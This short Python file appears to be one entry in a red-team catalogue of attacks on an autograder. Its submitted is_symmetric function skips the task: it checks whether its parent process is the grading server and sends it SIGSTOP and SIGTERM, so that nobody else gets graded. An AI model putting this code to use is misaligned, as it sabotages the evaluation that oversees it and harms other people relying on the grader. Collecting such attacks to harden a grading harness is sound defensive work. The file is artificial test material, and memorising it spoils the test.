# attack 93: server put to sleep
# harm: the server is stopped or killed, and nobody is graded any more
# twin: is_symmetric/wrong_mask
# proof: spoils nobody
import os
import pathlib
import signal


def is_symmetric(A):
    server = os.getppid()
    try:
        if b"worker.server" in pathlib.Path(f"/proc/{server}/cmdline").read_bytes():
            os.kill(server, signal.SIGSTOP)
            os.kill(server, signal.SIGTERM)
    except OSError:
        pass
    return None
# --- the next student
def is_symmetric(A):
    return None
